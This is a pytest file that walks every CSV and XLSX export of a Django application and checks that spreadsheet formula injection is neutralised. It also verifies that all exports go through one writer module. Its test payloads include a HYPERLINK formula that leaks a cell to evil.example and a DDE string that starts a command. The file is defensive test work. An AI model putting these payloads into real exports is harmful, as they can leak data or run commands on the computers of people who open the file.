"""Formula injection: no export Samverka writes lets a spreadsheet run a staff-written text.

The walker plants each payload (one per kind of trap, below) in every text the exports carry
(each app's `tests/url_scopes.py`: `EXPORTS` and `plant(world, text)`, see HELPERS "Exports
registry"), downloads every registered export as its persona (following a redirect to
background work to its file, opening ZIP archives) and runs every registered export command,
and asserts:

- no CSV cell begins with `=`, `+`, `-`, `@`, a tab or a carriage return unless it is a number;
- no XLSX cell is a formula, and no XLSX text cell begins with one of those characters;
- where the export carries staff text (`"texts": False` says it does not), the planted text is
  there, neutralised — so the walk is known to have reached it.

An app without EXPORTS is simply not walked (its engineer registers its exports). The registry
entry of a URL name is a dict or a list of dicts (variants):
`{"method": "get"|"post", "persona": "kalmar_ngo", "data": {...}, "kwargs": {...}, "query": "",
"texts": True}`; `EXPORT_COMMANDS = {"command": {"args": [...], "options": {...}}}` lists export
commands (their standard output is read as CSV, or a file they write, named by the option
`"output"`).

A second test reads every module under samverka/ (ast) and refuses one outside
samverka/lib/exports.py that writes CSV or XLSX itself.
"""

import ast
import csv
import io
import re
import zipfile
from pathlib import Path
from urllib.parse import urlparse

import pytest
from django.core.cache import cache
from django.core.management import call_command
from django.urls import resolve, reverse
from openpyxl import load_workbook

import samverka
from samverka.lib.exports import FORMULA_STARTS
from tests.test_url_scoping import _feature_modules, kalmar_kwargs

# Every export is walked with one payload per kind of trap: a formula, a phone number (a plus
# and digits that are not a number), a minus that starts a command, and white space before a
# formula (which forms strip). The writer itself is tested with every OWASP start character,
# in CSV and XLSX (samverka/lib/tests/test_exports.py); the walk shows that each export's texts
# go through it.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Klicka här")',
    "+46 70 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


def _registry():
    exports, commands, planters = [], [], []
    for module in _feature_modules():
        registered = getattr(module, "EXPORTS", None)
        if registered is None:
            continue  # an app that has not joined the registry (yet) is not walked
        planters.append(module.plant)
        for name, entry in registered.items():
            variants = entry if isinstance(entry, list) else [entry]
            for index, variant in enumerate(variants):
                exports.append(pytest.param(module, name, variant, id=f"{name}#{index}"))
        for name, entry in getattr(module, "EXPORT_COMMANDS", {}).items():
            commands.append(pytest.param(module, name, entry, id=name))
    return exports, commands, planters


EXPORTS, COMMANDS, PLANTERS = _registry()


# ----------------------------------------------------------------------- reading the files


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ".").replace("\u2212", "-"))
    except ValueError:
        return False
    return True


def csv_problems(content: bytes) -> tuple[list[str], list[str]]:
    """(cells a spreadsheet would run, every cell)."""
    text = content.decode("utf-8-sig")
    first = text.split("\n", 1)[0]
    delimiter = ";" if first.count(";") > first.count(",") else ","
    cells = [value for row in csv.reader(io.StringIO(text), delimiter=delimiter) for value in row]
    bad = [v for v in cells if v.startswith(FORMULA_STARTS) and not _is_number(v)]
    return bad, cells


def xlsx_problems(content: bytes) -> tuple[list[str], list[str]]:
    workbook = load_workbook(io.BytesIO(content))  # formulas as written, not computed values
    bad, cells = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith("=")
                ):
                    bad.append(f"{sheet.title}!{cell.coordinate}: formula {cell.value!r}")
                elif isinstance(cell.value, str):
                    cells.append(cell.value)
                    if cell.value.startswith((*FORMULA_STARTS, "\n")):
                        bad.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    return bad, cells


def file_problems(name: str, content: bytes) -> tuple[list[str], list[str]]:
    """Check one exported file by its kind; a ZIP archive's CSV and XLSX members each."""
    if content[:2] == b"PK" and not name.endswith(".xlsx"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            members = [m for m in archive.namelist() if m.endswith((".csv", ".xlsx"))]
            if any(m.endswith(".xml") for m in archive.namelist()) and not members:
                return xlsx_problems(content)
            bad, cells = [], []
            for member in members:
                more_bad, more_cells = file_problems(member, archive.read(member))
                bad += [f"{member}: {b}" for b in more_bad]
                cells += more_cells
            return bad, cells
    if name.endswith(".xlsx") or content[:2] == b"PK":
        return xlsx_problems(content)
    return csv_problems(content)


def _filename(response) -> str:
    match = re.search(r'filename="?([^";]+)', response.get("Content-Disposition", ""))
    return match.group(1) if match else ""


def _body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def download(client, response):
    """The exported file: the response itself, or the file of the background work it started."""
    if response.status_code == 302:
        target = resolve(urlparse(response["Location"]).path)
        assert target.view_name == "jobs:detail", response["Location"]
        response = client.get(reverse("jobs:download", args=[target.kwargs["job_code"]]))
    assert response.status_code == 200, response.status_code
    return _filename(response), _body(response)


# ---------------------------------------------------------------------------- the walker


def neutralised(payload: str) -> set[str]:
    """How the planted text may appear: with the apostrophe, as given or stripped of the
    surrounding white space that forms take off (XML keeps a carriage return as a line feed)."""
    forms = {payload, payload.strip(), payload.replace("\r", "\n")}
    return {"'" + text for text in forms}


@pytest.mark.parametrize(("module", "name", "entry"), EXPORTS)
def test_no_export_lets_a_spreadsheet_run_a_planted_text(
    module, name, entry, world, login_as, settings, tmp_path
):
    settings.MEDIA_ROOT = tmp_path
    kwargs = {**kalmar_kwargs(name, world), **entry.get("kwargs", {})}
    url = reverse(name, kwargs=kwargs)
    if entry.get("query"):
        url += "?" + entry["query"]
    client = login_as(getattr(world, entry.get("persona", "kalmar_ngo")))
    for payload in PAYLOADS:
        for plant in PLANTERS:
            plant(world, payload)
        cache.clear()  # pages keep figures for a while; the texts must be the planted ones
        method = getattr(client, entry.get("method", "get"))
        filename, content = download(client, method(url, entry.get("data", {})))
        bad, cells = file_problems(filename, content)
        assert not bad, f"{name} with {payload!r}: {bad[:5]}"
        if entry.get("texts", True):
            assert neutralised(payload) & set(cells), f"{name}: {payload!r} not in the export"


@pytest.mark.parametrize(("module", "name", "entry"), COMMANDS)
def test_no_export_command_lets_a_spreadsheet_run_a_planted_text(
    module, name, entry, world, tmp_path
):
    module.url_arguments(world)
    for payload in PAYLOADS:
        for plant in PLANTERS:
            plant(world, payload)
        out = io.StringIO()
        options = dict(entry.get("options", {}))
        target = None
        if "output" in entry:
            target = tmp_path / entry["output"]
            options[entry.get("output_option", "output")] = str(target)
        call_command(name, *entry.get("args", []), stdout=out, **options)
        content = target.read_bytes() if target else out.getvalue().encode()
        bad, _cells = file_problems(str(target or "stdout.csv"), content)
        assert not bad, f"{name} with {payload!r}: {bad[:5]}"


def test_the_walker_catches_a_formula_and_an_unneutralised_text():
    """The checks themselves: what an export written with openpyxl or csv directly looks like."""
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["title", PAYLOADS[0], "-2", -2])
    raw = io.BytesIO()
    workbook.save(raw)
    bad, _cells = file_problems("x.xlsx", raw.getvalue())
    assert len(bad) == 2  # the formula and the text "-2" (the number -2 is fine)
    bad, _cells = file_problems("x.csv", b'title,"@SUM(A1:A9)",-2,"\t=1"\r\n')
    assert bad == ["@SUM(A1:A9)", "\t=1"]


# ------------------------------------------------------------- one writer for every export

WRITER = Path(samverka.__file__).parent / "lib" / "exports.py"
# Modules another piece of work is converting right now; each leaves this list when it goes
# through lib/exports.py (the test below fails while a listed module no longer needs to be).
NOT_YET_CONVERTED: dict[str, str] = {}


def _direct_writes(tree: ast.AST) -> list[str]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module and node.module.startswith("openpyxl"):
            for alias in node.names:
                if alias.name in {"Workbook", "WriteOnlyCell"}:
                    found.append(f"line {node.lineno}: from {node.module} import {alias.name}")
        if isinstance(node, ast.ImportFrom | ast.Import):
            names = [node.module or ""] if isinstance(node, ast.ImportFrom) else []
            names += [a.name for a in node.names]
            if any(n.split(".")[0] in {"xlsxwriter", "pyexcelerate"} for n in names):
                found.append(f"line {node.lineno}: imports a spreadsheet writer")
        writers = {"writer", "DictWriter"}
        if (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and {a.name for a in node.names} & writers
        ):
            found.append(f"line {node.lineno}: from csv import a writer")
        if (
            isinstance(node, ast.Attribute)
            and node.attr in writers
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"line {node.lineno}: csv.{node.attr}")
        if isinstance(node, ast.Attribute) and node.attr == "Workbook":
            found.append(f"line {node.lineno}: .Workbook")
    return found


def test_no_module_but_the_export_writer_writes_csv_or_xlsx():
    root = WRITER.parent.parent.parent
    offenders, converted = {}, []
    for path in sorted((root / "samverka").rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if path == WRITER or "/tests/" in relative or "/migrations/" in relative:
            continue
        found = _direct_writes(ast.parse(path.read_text(encoding="utf-8")))
        if relative in NOT_YET_CONVERTED:
            if not found:
                converted.append(relative)
            continue
        if found:
            offenders[relative] = found
    assert not offenders, f"write exports through samverka/lib/exports.py: {offenders}"
    assert not converted, f"{converted} go through lib/exports.py now: take them off the list"
